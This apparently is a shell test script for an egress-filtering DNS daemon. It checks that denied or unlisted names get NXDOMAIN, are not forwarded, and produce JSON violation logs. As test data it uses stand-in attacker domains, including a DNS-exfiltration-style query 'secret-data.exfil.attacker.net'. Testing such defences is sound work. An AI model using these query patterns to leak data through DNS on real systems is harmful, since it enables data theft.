#!/usr/bin/env bash
# shellcheck source-path=SCRIPTDIR disable=SC2119,SC2317
# SPDX-License-Identifier: GPL-2.0-only
#
# Denied names get NXDOMAIN over UDP and TCP, are never forwarded (the
# upstream's own query log does not mention them: no exfiltration through
# denied names), and each produces a DNS violation line on stdout; stdout
# holds nothing but JSON lines.

# shellcheck source=lib.sh
. "$(dirname "$0")/lib.sh"

egit_init
start_upstream
start_egressd --rules "$POLICY"

# deny rule (evil.example.com) and default deny (exfil.attacker.net): the
# first query of each is the one whose log line is checked.
q @"$DNS4" evil.example.com A
assert_eq "udp: deny rule gives NXDOMAIN" NXDOMAIN "$Q_STATUS"
assert_eq "udp: NXDOMAIN carries no answer" "" "$Q_ANSWER"
wait_json_line "violation line for the deny rule" "$T/egressd.out" \
	event=violation layer=dns qname~=evil.example.com qtype=A \
	reason=deny_rule action=nxdomain
q @"$DNS4" exfil.attacker.net A
assert_eq "udp: default deny gives NXDOMAIN" NXDOMAIN "$Q_STATUS"
wait_json_line "violation line for the default deny" "$T/egressd.out" \
	event=violation layer=dns qname~=exfil.attacker.net qtype=A \
	reason=default_deny action=nxdomain

q +tcp @"$DNS4" evil.example.com A
assert_eq "tcp: deny rule gives NXDOMAIN" NXDOMAIN "$Q_STATUS"
q +tcp @"$DNS4" exfil.attacker.net AAAA
assert_eq "tcp: default deny gives NXDOMAIN" NXDOMAIN "$Q_STATUS"
q @"$DNS6" secret-data.exfil.attacker.net TXT
assert_eq "v6 client, TXT: NXDOMAIN" NXDOMAIN "$Q_STATUS"
q @"$DNS4" EVIL.Example.COM A
assert_eq "mixed case does not dodge the deny rule" NXDOMAIN "$Q_STATUS"
q @"$DNS4" github.com A
assert_eq "parent of an allowed name is not allowed" NXDOMAIN "$Q_STATUS"

# An allowed query afterwards proves the upstream log is live.
q @"$DNS4" api.github.com A
assert_eq "allowed name still answered" "NOERROR $WEB4" "$Q_STATUS $Q_ANSWER"
wait_for 2 grep -q "api.github.com" "$T/fakedns-up.log"
for n in evil.example.com exfil.attacker.net github.com; do
	assert_not_forwarded "$n never reached the upstream" "$n"
done

assert_all_json "stdout holds only JSON lines" "$T/egressd.out"
egit_finish
